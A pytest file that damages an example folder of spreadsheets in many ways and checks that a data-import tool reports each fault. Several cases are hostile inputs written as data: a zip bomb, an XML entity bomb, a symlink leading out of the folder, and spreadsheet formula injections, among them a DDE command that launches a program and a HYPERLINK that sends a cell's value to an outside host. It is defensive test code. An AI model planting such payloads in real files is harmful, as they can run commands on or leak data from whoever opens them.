"""Folders with files that are missing, damaged, disguised or dangerous."""

from pathlib import Path

import openpyxl
import pytest

from tests.journey.folders import Break, Case, example_folder, named, plan, rows_of, write_rows, zipped

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _no_buyers(folder: Path) -> Path:
    path = folder / "Buyers.csv"
    path.unlink()
    return path


def a_missing_sheet(folder: Path) -> None:
    _no_buyers(folder)


def an_empty_sheet(folder: Path) -> None:
    (folder / "Buyers.csv").write_bytes(b"")


def a_header_and_no_rows(folder: Path) -> None:
    write_rows(folder / "Exporters.csv", rows_of(folder / "Exporters.csv")[:1])


def a_web_page_named_csv(folder: Path) -> None:
    (folder / "Buyers.csv").write_text("<!DOCTYPE html><html><body>Sign in</body></html>")


def requests_that_are_a_web_page(folder: Path) -> None:
    (folder / "Requests.csv").write_text("<!DOCTYPE html><html><body>Sign in</body></html>")


def pins_that_are_a_web_page(folder: Path) -> None:
    (folder / "Pins.csv").write_text("<!DOCTYPE html><html><body>Sign in</body></html>")


def a_pdf_named_xlsx(folder: Path) -> None:
    _no_buyers(folder).with_suffix(".xlsx").write_bytes(b"%PDF-1.7\n")


def an_encrypted_workbook(folder: Path) -> None:
    _no_buyers(folder).with_suffix(".xlsx").write_bytes(OLE + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le"))


def an_old_xls(folder: Path) -> None:
    _no_buyers(folder).with_suffix(".xls").write_bytes(OLE + b"\0" * 500)


def a_workbook_cut_off(folder: Path) -> None:
    book = openpyxl.Workbook()
    for row in rows_of(_no_buyers_rows(folder)):
        book.active.append(row)
    path = folder / "Buyers.xlsx"
    book.save(path)
    path.write_bytes(path.read_bytes()[:-400])


def _no_buyers_rows(folder: Path) -> Path:
    return (folder / "Buyers.csv").rename(folder.parent / "buyers-before.csv")


def a_zip_bomb(folder: Path) -> None:
    _no_buyers(folder)
    (folder / "Buyers.xlsx").write_bytes(zipped({"xl/worksheets/sheet1.xml": b" " * 40_000_000}))


def entities_in_a_workbook(folder: Path) -> None:
    _no_buyers(folder)
    bomb = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;">]><workbook>&b;</workbook>'
    (folder / "Buyers.xlsx").write_bytes(zipped({"xl/workbook.xml": bomb}))


def ten_thousand_columns(folder: Path) -> None:
    rows = rows_of(folder / "Buyers.csv")
    write_rows(folder / "Buyers.csv", [rows[0] + [f"c{n}" for n in range(10_000)], *rows[1:]])


def a_link_out_of_the_folder(folder: Path) -> None:
    outside = _no_buyers_rows(folder)
    (folder / "Buyers.csv").symlink_to(outside)


def a_folder_named_like_a_sheet(folder: Path) -> None:
    _no_buyers(folder).mkdir()


def nul_bytes(folder: Path) -> None:
    path = folder / "Buyers.csv"
    path.write_bytes(path.read_bytes().replace(b"Primer Sauce", b"Primer\x00Sauce"))


def two_encodings_in_one_file(folder: Path) -> None:
    path = folder / "Buyers.csv"
    head, _, rest = path.read_text(encoding="utf-8-sig").partition("\n")
    path.write_bytes(head.encode() + b"\n" + rest.encode("cp1251") + "B009,示例食品有限公司\n".encode())


def a_cell_of_forty_thousand_letters(folder: Path) -> None:
    rows = rows_of(folder / "Buyers.csv")
    rows[1][rows[0].index("Note")] = "x" * 40_001
    write_rows(folder / "Buyers.csv", rows)


def a_quotation_mark_left_open(folder: Path) -> None:
    path = folder / "Buyers.csv"
    path.write_bytes(path.read_bytes() + b'"B009,Primer\n')


def two_workbooks_with_the_same_sheet(folder: Path) -> None:
    book = openpyxl.Workbook()
    book.active.title = "Buyers"
    for row in rows_of(folder / "Buyers.csv"):
        book.active.append(row)
    for name in ("one.xlsx", "two.xlsx"):
        book.save(folder / name)
    (folder / "Buyers.csv").unlink()


def a_formula_bomb(folder: Path) -> None:
    rows = rows_of(folder / "Buyers.csv")
    rows[1][rows[0].index("Note")] = '=HYPERLINK("http://example.com/?"&A1,"open")'
    rows[2][rows[0].index("Note")] = "=cmd|' /C calc'!A0"
    write_rows(folder / "Buyers.csv", rows)


def duplicate_columns(folder: Path) -> None:
    rows = rows_of(folder / "Buyers.csv")
    write_rows(folder / "Buyers.csv", [[*row, "City" if n == 0 else "Пермь"] for n, row in enumerate(rows)])


def a_missing_column(folder: Path) -> None:
    rows = rows_of(folder / "Requests.csv")
    at = rows[0].index("Whom")
    write_rows(folder / "Requests.csv", [row[:at] + row[at + 1 :] for row in rows])


def a_missing_column_of_a_needed_sheet(folder: Path) -> None:
    rows = rows_of(folder / "Exporters.csv")
    names = [n for n, header in enumerate(rows[0]) if header.startswith("Name in") or header == "Banner"]
    write_rows(folder / "Exporters.csv", [[c for n, c in enumerate(row) if n not in names] for row in rows])


CASES: tuple[tuple[Break, Case], ...] = (
    (a_missing_sheet, (2, 1, (("folder › buyers", "sheets.sheet_missing"),))),
    (an_empty_sheet, (2, 1, (("Buyers.csv", "sheets.no_rows"),))),
    (a_header_and_no_rows, (2, 1, (("Exporters.csv", "sheets.no_rows"),))),
    (a_web_page_named_csv, (2, 1, (("Buyers.csv", "sheets.disguise"),))),
    (requests_that_are_a_web_page, (1, 1, (("Requests.csv", "sheets.disguise"),))),
    (pins_that_are_a_web_page, (1, 1, (("Pins.csv", "sheets.disguise"),))),
    (a_pdf_named_xlsx, (2, 1, (("Buyers.xlsx", "sheets.disguise"),))),
    (an_encrypted_workbook, (2, 1, (("Buyers.xlsx", "sheets.encrypted"),))),
    (an_old_xls, (2, 1, (("Buyers.xls", "sheets.old_xls"),))),
    (a_workbook_cut_off, (2, 1, (("Buyers.xlsx", "sheets.damaged"),))),
    (a_zip_bomb, (2, 1, (("Buyers.xlsx", "sheets.zip_bomb"),))),
    (entities_in_a_workbook, (2, 1, (("Buyers.xlsx", "sheets.entities"),))),
    (ten_thousand_columns, (2, 1, (("Buyers.csv", "sheets.too_many_columns"),))),
    (a_link_out_of_the_folder, (2, 1, (("Buyers.csv", "sheets.link_outside"),))),
    (a_folder_named_like_a_sheet, (2, 1, (("Buyers.csv", "sheets.is_folder"),))),
    (nul_bytes, (2, 1, (("Buyers.csv", "sheets.disguise"),))),
    (two_encodings_in_one_file, (2, 1, (("Buyers.csv", "sheets.two_encodings"),))),
    (a_cell_of_forty_thousand_letters, (2, 1, (("Buyers.csv", "sheets.cell_too_long"),))),
    (
        a_quotation_mark_left_open,
        (
            1,
            1,
            (
                ("Buyers.csv", "sheets.quote_open"),
                ("Buyers.csv › A6", "sheets.around_list"),
            ),
        ),
    ),
    (two_workbooks_with_the_same_sheet, (1, 1, (("two.xlsx › Buyers", "sheets.sheet_twice"),))),
    (
        a_formula_bomb,
        (
            0,
            0,
            (
                ("Buyers.csv › AD2", "sheets.formula_text"),
                ("Buyers.csv › AD3", "sheets.formula_text"),
            ),
        ),
    ),
    (duplicate_columns, (0, 0, (("Buyers.csv › AP1", "sheets.column_twice"),))),
    (a_missing_column, (1, 1, (("Requests.csv › 1", "sheets.column_missing"),))),
    (a_missing_column_of_a_needed_sheet, (2, 1, (("Exporters.csv › 1", "sheets.column_missing"),))),
)


@pytest.mark.parametrize(("break_it", "expected"), CASES, ids=named)
def test_a_file_that_cannot_be_used_is_named(
    break_it: Break, expected: Case, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = example_folder(tmp_path / "folder")
    break_it(folder)
    assert plan(folder, capsys).told == expected
